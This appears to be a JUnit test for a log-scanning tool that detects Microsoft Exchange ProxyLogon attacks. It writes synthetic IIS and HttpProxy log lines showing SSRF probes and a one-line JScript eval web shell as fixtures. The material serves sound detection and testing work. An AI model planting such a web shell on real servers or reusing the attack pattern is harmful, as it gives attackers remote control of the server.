package kahu.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import kahu.testing.TestDatabases;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * `kahu scan` over Exchange logs written as ../shared/data/exchange/log-formats.md describes them (our own
 * synthetic lines: documentation address ranges, made-up names): ProxyLogon is found, benign traffic is not.
 */
class ScanCommandTest {
    private static final String IIS_FIELDS = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
            + "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";
    private static final String PROXY_FIELDS = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,"
            + "Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,"
            + "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
            + "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,"
            + "TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,"
            + "TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,"
            + "TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,"
            + "ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,"
            + "BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,"
            + "KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,"
            + "CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,"
            + "GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus";

    @TempDir
    Path dir;
    String db;

    @BeforeEach
    void setUp() throws Exception {
        System.setProperty("kahu.home", dir.resolve("home").toString());
        db = TestDatabases.url("h2");
    }

    @AfterEach
    void tearDown() {
        System.clearProperty("kahu.home");
    }

    private static String proxyRow(String time, String anchorMailbox) {
        List<String> v = new ArrayList<>(List.of(time, "aaaaaaaa-0000-4000-8000-00000000000" + time.charAt(18), "15", "1", "2176", "2", "",
                "Ecp", "192.0.2.20", "/ecp/x1z.js", "", "", "false", "", "", anchorMailbox, "ExchangeServicesClient/0.0.0.0",
                "203.0.113.66", "MAIL02", "200", "200", "", "POST", "Proxy", "mail02.corp.example", "15.01.2176.002", "",
                "X-BEResourceCookie"));
        v.addAll(Collections.nCopies(74 - v.size(), ""));
        return String.join(",", v);
    }

    private void write(String relative, String... lines) throws Exception {
        Path p = dir.resolve(relative);
        Files.createDirectories(p.getParent());
        Files.writeString(p, String.join("\n", lines) + "\n");
    }

    @Test
    void findsProxyLogonInExchangeLogsAndNothingInBenignOnes() throws Exception {
        String benign1 = "2021-03-04 10:00:00 192.0.2.20 GET /owa/ - 443 CORP\\bob 198.51.100.77 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 40";
        String benign2 = "2021-03-04 10:00:05 192.0.2.20 POST /EWS/Exchange.asmx - 443 CORP\\bob 198.51.100.77 Microsoft+Office/16.0 - 200 0 0 31";
        write("malicious/W3SVC1/u_ex210304.log", "#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS, benign1,
                "2021-03-04 10:02:11 192.0.2.20 POST /ecp/x1z.js - 443 - 203.0.113.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 88",
                "2021-03-04 10:03:40 192.0.2.20 POST /owa/auth/qz9.aspx - 443 - 203.0.113.66 python-requests/2.25.1 - 200 0 0 1200");
        write("malicious/W3SVC2/u_ex210304.log", "#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS,
                "2021-03-04 10:02:13 192.0.2.20 POST /ecp/DDI/DDIService.svc/SetObject msExchEcpCanary=BBBB.&schema=ResetOABVirtualDirectory "
                        + "444 CORP\\MAIL02$ 192.0.2.20 ExchangeServicesClient/0.0.0.0 - 200 0 0 400");
        write("malicious/HttpProxy/Ecp/HttpProxy_2021030410-1.LOG", "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs",
                "#Fields: " + PROXY_FIELDS,
                proxyRow("2021-03-04T10:02:11.100Z", "ServerInfo~mail02.corp.example/mapi/emsmdb/?#"),
                proxyRow("2021-03-04T10:02:12.100Z", "ServerInfo~mail02.corp.example/autodiscover/autodiscover.xml?#"));
        write("malicious/inetpub/wwwroot/aspnet_client/system_web/k.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>");
        write("benign/W3SVC1/u_ex210304.log", "#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS, benign1, benign2);
        write("benign/HttpProxy/Ews/HttpProxy_2021030410-1.LOG", "#Software: Microsoft Exchange Server", "#Log-type: HttpProxy Logs",
                "#Fields: " + PROXY_FIELDS, proxyRow("2021-03-04T10:05:00.000Z", "Sid~S-1-5-21-1-2-3-1105"));

        CliRun bad = CliRun.run("--db", db, "scan", dir.resolve("malicious").toString(), "--format", "json");
        assertThat(bad.exit()).as(bad.err()).isEqualTo(1);
        JsonNode doc = new ObjectMapper().readTree(bad.out());
        List<String> titles = new ArrayList<>();
        doc.get("detections").forEach(d -> titles.add(d.get("title").asText()));
        assertThat(titles).anySatisfy(t -> assertThat(t).contains("HttpProxy", "CVE-2021-26855"))
                .anySatisfy(t -> assertThat(t).contains("/ecp/"))
                .anySatisfy(t -> assertThat(t).contains("CVE-2021-27065"))
                .anySatisfy(t -> assertThat(t).startsWith("Web shell"));
        // The autodiscover-only probe is not a hit (as in Microsoft's own check).
        assertThat(doc.get("detections").toString()).doesNotContain("autodiscover.xml");
        JsonNode ssrf = null;
        for (JsonNode d : doc.get("detections")) if (d.get("title").asText().contains("HttpProxy")) ssrf = d;
        assertThat(ssrf.get("techniques").toString()).contains("T1190");
        assertThat(ssrf.get("observables").get("ipv4-addr").get(0).asText()).isEqualTo("203.0.113.66");
        assertThat(ssrf.get("location").asText()).contains("HttpProxy_2021030410-1.LOG:");
        assertThat(doc.get("summary").get("problems")).isEmpty();

        CliRun good = CliRun.run("--db", db, "scan", dir.resolve("benign").toString(), "--format", "json");
        assertThat(good.exit()).as(good.err()).isZero();
        assertThat(new ObjectMapper().readTree(good.out()).get("detections")).isEmpty();
    }

    @Test
    void detectionsAsAStixBundleValidateAndCarryTheAttackersAddress() throws Exception {
        write("logs/W3SVC1/u_ex210304.log", "#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS,
                "2021-03-04 10:02:11 192.0.2.20 POST /ecp/x1z.js - 443 - 203.0.113.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 88");
        CliRun r = CliRun.run("--db", db, "scan", dir.resolve("logs").toString(), "--format", "stix");
        assertThat(r.exit()).as(r.err()).isEqualTo(1);
        JsonNode bundle = new ObjectMapper().readTree(r.out());
        List<String> problems = new ArrayList<>();
        List<String> types = new ArrayList<>();
        for (JsonNode o : bundle.get("objects")) {
            types.add(o.get("type").asText());
            kahu.stix.OasisSchemas.validate(o).forEach(e -> problems.add(o.get("id").asText() + ": " + e));
            kahu.stix.StixValidator.validate((com.fasterxml.jackson.databind.node.ObjectNode) o).forEach(e -> problems.add(o.get("id").asText() + ": " + e));
        }
        assertThat(problems).isEmpty();
        assertThat(types).contains("indicator", "sighting", "observed-data", "ipv4-addr", "attack-pattern", "relationship");
        assertThat(bundle.toString()).contains("203.0.113.66", "T1190");
        // The bundle is evidence for attribution as it stands.
        Path stix = Files.writeString(dir.resolve("detections.json"), r.out());
        CliRun a = CliRun.run("--db", db, "attribute", stix.toString(), "--format", "json");
        assertThat(a.exit()).as(a.err()).isZero();
        assertThat(new ObjectMapper().readTree(a.out()).get("evidence").toString()).contains("T1190", "203.0.113.66");
    }

    @Test
    void correlationRulesFireOnRepeatedMatches() throws Exception {
        write("rules/repeated_probes.yml", "title: Repeated ProxyLogon probes from one address",
                "id: 4f6f0a5e-2b1c-4d7e-9a3b-1c2d3e4f5a6b", "correlation:", "  type: event_count", "  rules:",
                "    - e31eb1c1-6d1c-4080-8d2a-99214266d9f0", "  group-by:", "    - c-ip", "  timespan: 10m", "  condition:", "    gte: 3", "level: critical");
        List<String> lines = new ArrayList<>(List.of("#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS));
        for (int i = 0; i < 3; i++) {
            lines.add("2021-03-04 10:0" + i + ":11 192.0.2.20 POST /ecp/p" + i + ".js - 443 - 203.0.113.99 ExchangeServicesClient/0.0.0.0 - 200 0 0 88");
        }
        write("logs2/W3SVC1/u_ex210304.log", lines.toArray(String[]::new));
        CliRun r = CliRun.run("--db", db, "scan", dir.resolve("logs2").toString(), "--rules", dir.resolve("rules").toString(), "--format", "json");
        assertThat(r.exit()).as(r.err()).isEqualTo(1);
        JsonNode doc = new ObjectMapper().readTree(r.out());
        List<String> engines = new ArrayList<>();
        doc.get("detections").forEach(d -> engines.add(d.get("engine").asText()));
        assertThat(engines).containsOnlyOnce("sigma-correlation");
        JsonNode corr = null;
        for (JsonNode d : doc.get("detections")) if (d.get("engine").asText().equals("sigma-correlation")) corr = d;
        assertThat(corr.get("title").asText()).isEqualTo("Repeated ProxyLogon probes from one address");
        assertThat(corr.get("observables").get("group:c-ip").get(0).asText()).isEqualTo("203.0.113.99");
        assertThat(corr.get("techniques").toString()).contains("T1190");
    }

    @Test
    void theSummaryListsSkippedRecordsByFileAndThePeakMemory() throws Exception {
        write("bad/W3SVC1/u_ex210304.log", "#Software: Microsoft Internet Information Services 10.0", IIS_FIELDS,
                "2021-03-04 10:00:00 192.0.2.20 GET /owa/ - 443 CORP\\bob 198.51.100.77 Mozilla/5.0 - 200 0 0 40",
                "2021-03-04 10:00:01 only five fields here",
                "\u0001\u0002\u0003 garbage");
        Path log = dir.resolve("bad/W3SVC1/u_ex210304.log");
        CliRun text = CliRun.run("--db", db, "scan", dir.resolve("bad").toString());
        assertThat(text.exit()).as(text.err()).isZero();
        assertThat(text.err()).contains("2 record(s) skipped", "Peak memory: ", "records skipped by file:", "2  " + log,
                log + ":4: expected 15 fields", log + ":5: binary data (3 control bytes); skipped");

        CliRun json = CliRun.run("--db", db, "scan", dir.resolve("bad").toString(), "--format", "json");
        JsonNode summary = new ObjectMapper().readTree(json.out()).get("summary");
        assertThat(summary.get("skipped").asLong()).isEqualTo(2);
        assertThat(summary.get("skippedByFile").get(log.toString()).asLong()).isEqualTo(2);
        assertThat(summary.get("peakMemory").get("bytes").asLong()).isPositive();
        assertThat(summary.get("peakMemory").get("measure").asText()).contains("peak");
    }
}
